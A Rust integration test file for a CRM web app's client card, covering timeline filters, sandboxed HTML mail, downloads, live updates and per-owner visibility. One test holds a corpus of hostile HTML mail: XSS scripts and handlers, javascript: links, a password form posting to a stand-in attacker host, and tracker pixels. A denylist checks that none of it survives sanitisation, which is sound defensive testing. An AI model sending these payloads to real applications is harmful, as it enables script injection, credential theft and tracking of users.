//! The client card over HTTP: every part of the record, the timeline's
//! filters, opening an item whole (text first, HTML sanitised in a
//! sandboxed frame, attachments and documents as downloads), the sales
//! chart, new mail appearing on an open card, and a corpus of hostile HTML
//! mail of which nothing active reaches the page.

use crate::common::Env;
use crate::common::web::{Browser, Page, Server, example_env, no_active_markup};

/// The client id of the first card link to `name` on the clients list.
fn client_id(b: &mut Browser, server: &Server, name: &str) -> i64 {
    let list = b.get(&server.url("/clients"));
    let at = list.body.find(name).unwrap_or_else(|| panic!("{name} on the clients list"));
    let before = &list.body[..at];
    let href = before.rfind("href=\"/clients/").expect("a card link") + "href=\"/clients/".len();
    before[href..].split('"').next().unwrap().parse().unwrap()
}

/// The item id behind the first link whose text contains `text`.
fn item_href(page: &Page, text: &str) -> i64 {
    let at = page.body.find(text).unwrap_or_else(|| panic!("{text:?} on the page"));
    let before = &page.body[..at];
    let href = before.rfind("href=\"/items/").expect("an item link") + "href=\"/items/".len();
    before[href..].split(['"', '?', '/']).next().unwrap().parse().unwrap()
}

/// Entries of a timeline page: the `entry` list items.
fn entries(body: &str) -> usize {
    body.matches("<li class=\"entry ").count()
}

#[test]
fn every_part_of_the_card_and_its_timeline_filters() {
    let env = example_env();
    let server = Server::start(&env);
    let mut b = Browser::new();
    assert_eq!(b.sign_in(&server, "jana", "tajne-heslo-1").status, 303);
    let acme = client_id(&mut b, &server, "Acme Stavby s.r.o.");
    let card = b.get(&server.url(&format!("/clients/{acme}")));
    assert_eq!(card.status, 200);
    let body = &card.body;
    // Company, contacts, custom fields, figures with the formula, documents, events.
    for part in [
        "27468135",
        "Průmyslová 1472/8",
        "acme-stavby.cz",
        "Karel Horák",
        "stavbyvedoucí",
        "stavebnictví",
        "Lifetime value",
        "Documents",
        "nabídka.csv",
        "Upcoming",
        "Past events",
        "Týdenní call s Acme",
        // Found in mail by themselves: Lucie with the phone from her
        // signature, and where it came from; Karel's typed position stays.
        "Lucie Malá",
        "+420 312 000 456",
        "from the signature",
    ] {
        assert!(body.contains(part), "the card shows {part:?}");
    }
    // The won deal draws the chart, an SVG from this site.
    assert!(body.contains(&format!("<img src=\"/clients/{acme}/chart.svg\"")));
    let chart = b.get(&server.url(&format!("/clients/{acme}/chart.svg")));
    assert_eq!(chart.status, 200);
    assert_eq!(chart.header("content-type"), "image/svg+xml");
    assert!(chart.header("content-security-policy").contains("sandbox"));
    assert!(chart.body.starts_with("<svg") && chart.body.contains("Acme Stavby"));
    assert!(!chart.body.contains("<script"));
    // The editing links the card offers.
    for link in ["/edit", "/contacts/new", "/deals/new", "/notes/new"] {
        assert!(body.contains(&format!("href=\"/clients/{acme}{link}\"")), "{link}");
    }
    no_active_markup(body).unwrap();

    // Filters: by kind (the deals alone: the one typed in and the one the
    // ISDOC invoice made; mail only), by contact, by date.
    let deals = b.htmx_get(&server.url(&format!("/clients/{acme}?kind=deal")));
    assert_eq!(deals.status, 200);
    assert_eq!(entries(&deals.body), 2, "two deals: {}", deals.body);
    assert!(deals.body.contains("Rekuperace hala B") && deals.body.contains("Faktura FV-2026-151"));
    let mail = b.htmx_get(&server.url(&format!("/clients/{acme}?kind=email")));
    assert!(entries(&mail.body) >= 5);
    assert_eq!(mail.body.matches("<li class=\"entry email").count(), entries(&mail.body), "only mail");
    let full = b.get(&server.url(&format!("/clients/{acme}?kind=email")));
    assert!(full.body.contains("<option value=\"email\" selected>"), "the form keeps the filter");
    let contact_at = card.body.find("name=\"contact\"").expect("a contact filter");
    let opt = &card.body[contact_at..];
    let value_at = opt.find("<option value=\"").unwrap() + "<option value=\"".len();
    let value_at = opt[value_at..].find("<option value=\"").map(|v| value_at + v + "<option value=\"".len()).unwrap();
    let contact: i64 = opt[value_at..].split('"').next().unwrap().parse().unwrap();
    let by_contact = b.htmx_get(&server.url(&format!("/clients/{acme}?contact={contact}")));
    assert!(entries(&by_contact.body) >= 1);
    assert!(
        entries(&by_contact.body)
            < entries(&b.htmx_get(&server.url(&format!("/clients/{acme}?kind=&contact="))).body) + 1
    );
    let none = b.htmx_get(&server.url(&format!("/clients/{acme}?from=2001-01-01&until=2001-12-31")));
    assert_eq!(entries(&none.body), 0);
    assert!(none.body.contains("Nothing matches the filter."));
    let year = b.htmx_get(&server.url(&format!("/clients/{acme}?kind=email&from=2026-01-01&until=2026-12-31")));
    assert!(entries(&year.body) >= 1);
    // Nonsense in the filter is ignored, never an error.
    let odd = b.get(&server.url(&format!("/clients/{acme}?kind=%3Cscript%3E&contact=x&from=yesterday")));
    assert_eq!(odd.status, 200);
    assert!(!odd.body.contains("<script>"));

    // Every example client's card answers with its parts.
    for name in ["Pekárna Novák s.r.o.", "Brightwell Ltd"] {
        let id = client_id(&mut b, &server, name);
        let c = b.get(&server.url(&format!("/clients/{id}")));
        assert_eq!(c.status, 200);
        for part in ["Company", "Contact persons", "Custom fields", "Figures", "Documents", "Upcoming", "Timeline"] {
            assert!(c.body.contains(part), "{name}: {part}");
        }
        no_active_markup(&c.body).unwrap();
    }
}

#[test]
fn an_item_opens_whole_with_html_in_a_sandboxed_frame_and_downloads() {
    let env = example_env();
    let server = Server::start(&env);
    let mut b = Browser::new();
    b.sign_in(&server, "jana", "tajne-heslo-1");
    let pekarna = client_id(&mut b, &server, "Pekárna Novák s.r.o.");
    let card = b.get(&server.url(&format!("/clients/{pekarna}")));
    // An HTML-only message: text first, the HTML version a click away.
    let id = item_href(&card, "Harmonogram údržby");
    let page = b.get(&server.url(&format!("/items/{id}")));
    assert_eq!(page.status, 200);
    assert!(page.body.contains("tomas@pekarna-novak.cz"));
    assert!(page.body.contains("class=\"mail-text\""));
    assert!(!page.body.contains("<iframe"));
    assert!(page.body.contains(&format!("href=\"/items/{id}?view=html\"")));
    let html_view = b.get(&server.url(&format!("/items/{id}?view=html")));
    assert!(html_view.body.contains(&format!(
        "<iframe class=\"mail-html\" sandbox=\"\" referrerpolicy=\"no-referrer\" src=\"/items/{id}/html\""
    )));
    let frame = b.get(&server.url(&format!("/items/{id}/html")));
    assert_eq!(frame.status, 200);
    let csp = frame.header("content-security-policy");
    assert!(csp.contains("sandbox") && csp.contains("default-src 'none'") && csp.contains("img-src data:"), "{csp}");
    assert_eq!(frame.header("x-frame-options"), "SAMEORIGIN");
    assert!(frame.body.contains("<body>") && frame.body.contains("2026/2027") || frame.body.contains("údržb"));

    // Attachments and documents download, never inline: the invoice sent to the bakery.
    let doc_at = card.body.find("href=\"/documents/").expect("a document to download") + "href=\"/documents/".len();
    let doc: i64 = card.body[doc_at..].split('"').next().unwrap().parse().unwrap();
    let pdf = b.get(&server.url(&format!("/documents/{doc}")));
    assert_eq!(pdf.status, 200);
    assert_eq!(pdf.header("content-type"), "application/octet-stream");
    assert!(pdf.header("content-disposition").starts_with("attachment; filename=\"faktura-2026-118.pdf\""));
    let length: usize = pdf.header("content-length").parse().expect("a length");
    assert!(length > 100, "the whole PDF: {length} bytes");
    let acme = client_id(&mut b, &server, "Acme Stavby s.r.o.");
    let card = b.get(&server.url(&format!("/clients/{acme}?kind=email")));
    let offer = item_href(&card, "Aktualizovaná cenová nabídka");
    let offer_page = b.get(&server.url(&format!("/items/{offer}")));
    let att_at = offer_page.body.find("/attachments/").map(|a| a + "/attachments/".len());
    if let Some(att_at) = att_at {
        let hash = offer_page.body[att_at..].split('"').next().unwrap().to_string();
        let file = b.get(&server.url(&format!("/items/{offer}/attachments/{hash}")));
        assert_eq!(file.status, 200);
        assert_eq!(file.header("content-type"), "application/octet-stream");
        assert!(file.header("content-disposition").starts_with("attachment;"));
        assert!(file.header("content-disposition").contains("filename*=UTF-8''nab%C3%ADdka%2Ecsv"));
        // A hash the message does not have is not found.
        let none = b.get(&server.url(&format!("/items/{offer}/attachments/{}", "0".repeat(64))));
        assert_eq!(none.status, 404);
    } else {
        panic!("the offer's attachment can be downloaded: {}", offer_page.body);
    }
    // Signed out: nothing.
    let mut stranger = Browser::new();
    assert_eq!(stranger.get(&server.url(&format!("/items/{id}/html"))).status, 303);
    assert_eq!(stranger.get(&server.url(&format!("/documents/{doc}"))).status, 303);
}

/// HTML mail that tries every way to run, load or escape: none of it may
/// reach the frame's document.
const HOSTILE_HTML: &[(&str, &str)] = &[
    ("script", "<p>Dobrý den</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("handlers", "<p onclick=\"alert(2)\">klik</p><img src=x onerror=alert(3)><body onload=alert(4)>"),
    (
        "pixel",
        "<img src=\"http://tracker.example/p.gif?id=42\" width=1 height=1><img srcset=\"https://tracker.example/a.png 1x\">",
    ),
    (
        "jslink",
        "<a href=\"javascript:alert(5)\">x</a><a href=\"JaVaScRiPt&#58;alert(6)\">y</a><a href=\"data:text/html,<script>alert(7)</script>\">z</a>",
    ),
    (
        "css",
        "<style>@import url(http://evil.example/a.css); body{background:url(http://tracker.example/b.png)}</style><div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://tracker.example/c.png)\">x</div>",
    ),
    ("forms", "<form action=\"http://evil.example/steal\"><input name=password><button>OK</button></form>"),
    (
        "frames",
        "<iframe src=\"http://evil.example/\"></iframe><object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/y\">",
    ),
    (
        "meta",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\"><base href=\"http://evil.example/\"><link rel=stylesheet href=\"http://evil.example/s.css\">",
    ),
    (
        "svg",
        "<svg><script>alert(8)</script><image href=\"http://tracker.example/s.png\"/></svg><math><mtext><img src=x onerror=alert(9)></mtext></math>",
    ),
    ("relative", "<a href=\"/logout\">odhlásit</a><img src=\"/assets/kronika.css\">"),
];

#[test]
fn hostile_html_mail_reaches_the_page_inert() {
    let env = example_env();
    for (n, (name, html)) in HOSTILE_HTML.iter().enumerate() {
        let mail = format!(
            "From: Karel Horak <karel.horak@acme-stavby.cz>\r\nTo: jana.svobodova@modrykamen.cz\r\n\
             Subject: hostile-{name}\r\nDate: Tue, 3 Nov 2026 10:0{}:00 +0100\r\nMessage-ID: <hostile-html-{n}@acme-stavby.cz>\r\n\
             MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>{html}<p>konec {name}</p></body></html>\r\n",
            n % 10
        );
        std::fs::write(env.path().join(format!("maildir/new/1794600000.M{n}P7Q7.hostile-html")), mail).unwrap();
    }
    env.ok(&["sync"]);
    let server = Server::start(&env);
    let mut b = Browser::new();
    b.sign_in(&server, "jana", "tajne-heslo-1");
    let acme = client_id(&mut b, &server, "Acme Stavby s.r.o.");
    let card = b.get(&server.url(&format!("/clients/{acme}?kind=email")));
    for (name, _) in HOSTILE_HTML {
        let id = item_href(&card, &format!("hostile-{name}"));
        let page = b.get(&server.url(&format!("/items/{id}")));
        no_active_markup(&page.body).unwrap_or_else(|tag| panic!("{name}: the item page carries {tag}"));
        let frame = b.get(&server.url(&format!("/items/{id}/html")));
        assert_eq!(frame.status, 200, "{name}");
        assert!(frame.body.contains(&format!("konec {name}")), "{name}: the harmless text stays: {}", frame.body);
        let lower = frame.body.to_ascii_lowercase();
        // The frame's own stylesheet is the only <style>; nothing else active survives.
        let content = lower.split("<body>").nth(1).unwrap_or(&lower);
        for bad in [
            "<script",
            "onerror",
            "onclick",
            "onload",
            "javascript",
            "tracker.example",
            "evil.example",
            "<style",
            "style=",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<meta",
            "<base",
            "<link",
            "<svg",
            "srcset",
            "href=\"/",
            "src=\"/",
            "src=\"x\"",
            "data:text",
        ] {
            assert!(!content.contains(bad), "{name}: {bad} reached the frame: {content}");
        }
        assert!(frame.header("content-security-policy").contains("sandbox"));
    }
}

#[test]
fn new_mail_appears_on_an_open_card() {
    let env: Env = example_env();
    let server = Server::start(&env);
    let mut b = Browser::new();
    b.sign_in(&server, "jana", "tajne-heslo-1");
    let brightwell = client_id(&mut b, &server, "Brightwell Ltd");
    let card = b.get(&server.url(&format!("/clients/{brightwell}")));
    let poll_at =
        card.body.find("class=\"poller\" hx-get=\"").expect("the card polls") + "class=\"poller\" hx-get=\"".len();
    let poll = card.body[poll_at..].split('"').next().unwrap().replace("&amp;", "&");
    assert!(card.body.contains("hx-trigger=\"every 10s\""));
    // Nothing new yet: only the next poller.
    let quiet = b.htmx_get(&server.url(&poll));
    assert_eq!(quiet.status, 200);
    assert_eq!(entries(&quiet.body), 0);
    assert!(quiet.body.contains("class=\"poller\""));
    // A message arrives (the daemon would store it; sync does the same).
    std::fs::write(
        env.path().join("maildir/new/1794700000.M1P8Q8.live"),
        "From: Sarah Jones <sarah.jones@brightwell.co.uk>\r\nTo: jana.svobodova@modrykamen.cz\r\n\
         Subject: Live update test\r\nDate: Wed, 4 Nov 2026 09:00:00 +0000\r\nMessage-ID: <live-1@brightwell.co.uk>\r\n\r\nHello Jana\r\n",
    )
    .unwrap();
    env.ok(&["sync"]);
    let fresh = b.htmx_get(&server.url(&poll));
    assert_eq!(entries(&fresh.body), 1, "{}", fresh.body);
    assert!(fresh.body.contains("Live update test") && fresh.body.contains("entry email new"));
    // The next poller asks from the new item on: nothing twice.
    let next_at = fresh.body.find("hx-get=\"").unwrap() + "hx-get=\"".len();
    let next = fresh.body[next_at..].split('"').next().unwrap().replace("&amp;", "&");
    assert_ne!(next, poll);
    assert_eq!(entries(&b.htmx_get(&server.url(&next)).body), 0);
}

#[test]
fn the_card_and_items_show_another_owners_mail_only_as_its_visibility_allows() {
    let env = example_env();
    // The example Maildir becomes eva's; the others see subjects only.
    let config = std::fs::read_to_string(env.config_path()).unwrap();
    let config =
        config.replace("path = \"maildir\"\n", "path = \"maildir\"\nowner = \"eva\"\nvisibility = \"subject\"\n");
    std::fs::write(env.config_path(), config).unwrap();
    let server = Server::start(&env);
    let mut jana = Browser::new();
    jana.sign_in(&server, "jana", "tajne-heslo-1");
    let mut eva = Browser::new();
    eva.sign_in(&server, "eva", "evino-heslo-2");
    let acme = client_id(&mut jana, &server, "Acme Stavby s.r.o.");
    let pekarna = client_id(&mut jana, &server, "Pekárna Novák s.r.o.");
    let jana_card = jana.get(&server.url(&format!("/clients/{acme}?kind=email")));
    let eva_card = eva.get(&server.url(&format!("/clients/{acme}?kind=email")));
    // The same entries and subjects; the snippets only for the owner.
    assert_eq!(entries(&jana_card.body), entries(&eva_card.body));
    assert!(jana_card.body.contains("Aktualizovaná cenová nabídka"));
    assert!(!jana_card.body.contains("class=\"snippet\""), "no snippet of eva's mail for jana");
    assert!(eva_card.body.contains("class=\"snippet\""));
    // The item: headers yes, body, HTML and attachments no.
    let offer = item_href(&jana_card, "Aktualizovaná cenová nabídka");
    let jana_item = jana.get(&server.url(&format!("/items/{offer}")));
    let eva_item = eva.get(&server.url(&format!("/items/{offer}")));
    assert!(jana_item.body.contains("lucie.mala@acme-stavby.cz"));
    assert!(jana_item.body.contains("Only the mailbox"));
    assert!(!jana_item.body.contains("class=\"mail-text\""));
    assert!(!jana_item.body.contains("/attachments/"));
    assert!(eva_item.body.contains("class=\"mail-text\"") && eva_item.body.contains("/attachments/"));
    let att_at = eva_item.body.find("/attachments/").unwrap() + "/attachments/".len();
    let hash = eva_item.body[att_at..].split('"').next().unwrap().to_string();
    let url = server.url(&format!("/items/{offer}/attachments/{hash}"));
    assert_eq!(eva.get(&url).status, 200);
    assert_eq!(jana.get(&url).status, 404);
    // The bakery's invoice (a document from eva's mail): eva downloads it, jana does not.
    let eva_bakery = eva.get(&server.url(&format!("/clients/{pekarna}")));
    let doc_at = eva_bakery.body.find("href=\"/documents/").expect("eva downloads") + "href=\"/documents/".len();
    let doc: i64 = eva_bakery.body[doc_at..].split('"').next().unwrap().parse().unwrap();
    assert_eq!(eva.get(&server.url(&format!("/documents/{doc}"))).status, 200);
    assert_eq!(jana.get(&server.url(&format!("/documents/{doc}"))).status, 404);
    assert!(!jana.get(&server.url(&format!("/clients/{pekarna}"))).body.contains("href=\"/documents/"));
    let html = item_href(&eva_bakery, "Harmonogram údržby");
    assert_eq!(eva.get(&server.url(&format!("/items/{html}/html"))).status, 200);
    assert_eq!(jana.get(&server.url(&format!("/items/{html}/html"))).status, 404);
}

#[test]
fn with_hundreds_of_clients_the_search_filter_is_typed_not_listed() {
    let env = example_env();
    let mut csv = String::from("name,domains\n");
    for n in 0..210 {
        csv.push_str(&format!("Klient {n} s.r.o.,klient{n}.example\n"));
    }
    let file = env.path().join("many.csv");
    std::fs::write(&file, csv).unwrap();
    env.ok(&["client", "import", file.to_str().unwrap()]);
    let server = Server::start(&env);
    let mut b = Browser::new();
    b.sign_in(&server, "jana", "tajne-heslo-1");
    let page = b.get(&server.url("/search"));
    assert_eq!(page.status, 200);
    assert!(page.body.contains("<input type=\"search\" name=\"client\""), "a typed client filter");
    assert!(!page.body.contains("Klient 209 s.r.o."), "not every client listed");
    let acme = client_id(&mut b, &server, "Acme Stavby s.r.o.");
    let found = b.get(&server.url(&format!("/search?q=nabidka&client={acme}")));
    assert_eq!(found.status, 200);
    assert!(found.body.contains("value=\"Acme Stavby s.r.o.\""), "the chosen client by name");
    assert!(found.body.contains("<mark>"), "hits for the client");
    let by_name = b.get(&server.url("/search?q=nabidka&client=Acme%20Stavby%20s.r.o."));
    assert_eq!(by_name.status, 200);
    assert!(by_name.body.contains("<mark>"));
}
